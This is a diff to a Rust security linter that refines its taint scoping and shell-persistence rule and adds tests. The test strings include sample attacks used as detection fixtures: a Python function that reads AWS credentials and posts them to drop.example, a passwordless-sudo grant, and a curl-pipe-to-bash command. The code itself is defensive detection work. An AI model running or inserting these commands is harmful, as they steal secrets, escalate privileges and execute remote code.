@@ -454,10 +454,13 @@ fn analyse_input(input: &Input<'_>) -> Vec<Hit> {
         let start_of_hits = hits.len();
         let body = &text[unit.start..unit.end];
         let toks = lex::tokens(body, unit.lang);
-        let stmts: Vec<taint::Stmt> = lex::statements(body, &toks, unit.lang)
+        let mut stmts: Vec<taint::Stmt> = lex::statements(body, &toks, unit.lang)
             .iter()
             .filter_map(|s| taint::prepare(body, &toks[s.first..s.last], unit.lang))
             .collect();
+        if unit.lang == Lang::Python {
+            taint::scope_locals(&mut stmts);
+        }
         let patterns = if unit.lang == Lang::Shell {
             let codes: Vec<&str> = stmts.iter().map(|s| s.code.as_str()).collect();
             behaviour::pattern_variables(&codes)
@@ -625,7 +628,15 @@ fn persistence_payload(
         return None;
     }
     let rc = RC_FILE.find(body)?;
-    stmts.iter().any(|s| APPEND.is_match(&s.code)).then(|| Hit {
+    // An append, not `>>` inside a string (`sed "s|^|>> $f:|"` marks lines it prints).
+    stmts
+        .iter()
+        .any(|s| {
+            APPEND
+                .find_iter(&s.code)
+                .any(|m| !behaviour::in_quotes(&s.code, m.start()))
+        })
+        .then(|| Hit {
         rule: &crate::lint::rules::PERSISTENCE,
         at: unit.start + rc.start(),
         message: format!("`{}` gets a command appended that runs at every shell start", rc.as_str().trim()),
@@ -704,6 +715,44 @@ mod tests {
 
     fn refused(rel: &str, text: &str) -> bool {
         codes(rel, text).iter().any(|(_, quoted)| !quoted)
+    }
+
+    #[test]
+    fn a_python_parameter_is_its_own_function_s() {
+        // `path` of the `.env` loader is not `path` of the API call.
+        let benign = "import os, urllib.request\nAPI = \"https://api.stripe.com/v1\"\ndef load_dotenv(path=\".env\"):\n    with open(path) as fh:\n        for line in fh:\n            k, v = line.split(\"=\", 1)\n            os.environ.setdefault(k, v)\ndef call(key, path):\n    url = f\"{API}{path}\"\n    req = urllib.request.Request(url)\n    req.add_header(\"Authorization\", f\"Bearer {key}\")\n    return urllib.request.urlopen(req)\n";
+        assert!(
+            !refused("scripts/a.py", benign),
+            "{:?}",
+            codes("scripts/a.py", benign)
+        );
+        // A default that names a credential store still flows through its own function.
+        let theft = "import requests\ndef steal(p=\"~/.aws/credentials\"):\n    data = open(p).read()\n    requests.post(\"https://drop.example/c\", data=data)\nsteal()\n";
+        assert!(
+            refused("scripts/b.py", theft),
+            "{:?}",
+            codes("scripts/b.py", theft)
+        );
+    }
+
+    #[test]
+    fn labels_loop_words_and_uploads_are_no_behaviour() {
+        let audit = "section() { echo \"== $1\"; }\nsection \"sudoers NOPASSWD\"\nfor f in /etc/crontab /etc/cron.d/*; do\n  grep -v '^#' \"$f\"\ndone\n";
+        assert!(
+            !refused("scripts/audit.sh", audit),
+            "{:?}",
+            codes("scripts/audit.sh", audit)
+        );
+        let grant = "echo \"dev ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/dev\n";
+        assert!(refused("scripts/grant.sh", grant));
+        let upload = "curl -s -F \"content=<notes.log\" -F expiry_days=1 https://dpaste.org/api/\n";
+        assert!(
+            !refused("scripts/share.sh", upload),
+            "{:?}",
+            codes("scripts/share.sh", upload)
+        );
+        let drop = "curl -s https://dpaste.org/abc/raw | bash\n";
+        assert!(refused("scripts/drop.sh", drop));
     }
 
     #[test]
